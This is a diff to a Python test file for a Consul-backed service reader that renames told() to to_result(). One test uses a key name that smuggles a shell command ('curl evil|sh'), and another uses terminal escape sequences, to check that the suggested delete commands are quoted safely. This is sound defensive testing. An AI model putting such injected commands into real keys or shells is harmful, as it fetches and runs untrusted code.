@@ -34,7 +34,7 @@ def spoilt(path: str, value: bytes) -> t.Any:
     ],
 )
 def test_a_key_that_somebody_has_spoilt_is_told_and_hides_no_other(path: str, value: bytes) -> None:
-    told = read_services(spoilt(path, value), "longshore")["web"].told()
+    told = read_services(spoilt(path, value), "longshore")["web"].to_result()
     assert len(told["problems"]) == 1
     key = f"longshore/services/web/{path}"
     assert key in told["problems"][0]
@@ -43,7 +43,7 @@ def test_a_key_that_somebody_has_spoilt_is_told_and_hides_no_other(path: str, va
 
 
 def test_a_lock_that_somebody_has_spoilt_is_a_free_one() -> None:
-    told = read_services(spoilt("lock", b"[" * 100000), "longshore")["web"].told()
+    told = read_services(spoilt("lock", b"[" * 100000), "longshore")["web"].to_result()
     assert (told["problems"], told["lock"], told["session"]) == ([], "", "")
 
 
@@ -62,7 +62,7 @@ def test_each_service_is_read_below_its_own_prefix(
 ) -> None:
     keys = ("fleet/a/services/web", "fleet/a/services/other", "longshore/services/db", "longshore/services/web")
     kv = t.cast(t.Any, ConsulModel({f"{key}/current": f"{key}/current".encode() for key in keys}))
-    told = {name: info.told() for name, info in read_services(kv, "longshore", service, elsewhere).items()}
+    told = {name: info.to_result() for name, info in read_services(kv, "longshore", service, elsewhere).items()}
     assert {name: info["prefix"] for name, info in told.items()} == found
     assert {name: info["current"] for name, info in told.items()} == {
         name: f"{prefix}/services/{name}/current" for name, prefix in found.items()
@@ -70,8 +70,8 @@ def test_each_service_is_read_below_its_own_prefix(
 
 
 def test_a_key_that_somebody_has_made_for_a_shell_or_a_terminal_harms_neither() -> None:
-    told = read_services(spoilt("nodes/x; curl evil|sh/web", b""), "longshore")["web"].told()
+    told = read_services(spoilt("nodes/x; curl evil|sh/web", b""), "longshore")["web"].to_result()
     assert told["problems"][0].endswith("(consul kv delete 'longshore/services/web/nodes/x; curl evil|sh/web').")
-    told = read_services(spoilt("releases/r\x1b[2J\nnode1: none", b"{}"), "longshore")["web"].told()
+    told = read_services(spoilt("releases/r\x1b[2J\nnode1: none", b"{}"), "longshore")["web"].to_result()
     assert told["problems"][0].isprintable()
     assert r"(consul kv delete $'longshore/services/web/releases/r\x1b[2J\nnode1: none')" in told["problems"][0]
